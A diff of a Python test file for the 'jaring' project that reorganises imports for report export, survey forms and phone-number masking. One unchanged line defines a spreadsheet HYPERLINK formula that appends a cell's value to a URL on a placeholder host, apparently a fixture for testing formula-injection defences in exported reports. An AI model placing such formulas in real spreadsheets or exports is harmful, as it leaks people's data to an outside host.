@@ -7,9 +7,11 @@ import logging
 
 import pytest
 
-from jaring import forms, logs, report_export
+from jaring import logs
+from jaring.reports import export as report_export
+from jaring.survey import forms
 from jaring.phone import mask_numbers
-from tests.unit.test_report_views import a_report
+from tests.unit.reports.test_report_views import a_report
 
 FORMULA = '=HYPERLINK("https://contoh.id/?d="&B1,"klik")'
 NOW = dt.datetime(2026, 1, 8, 3, 0, tzinfo=dt.timezone.utc)
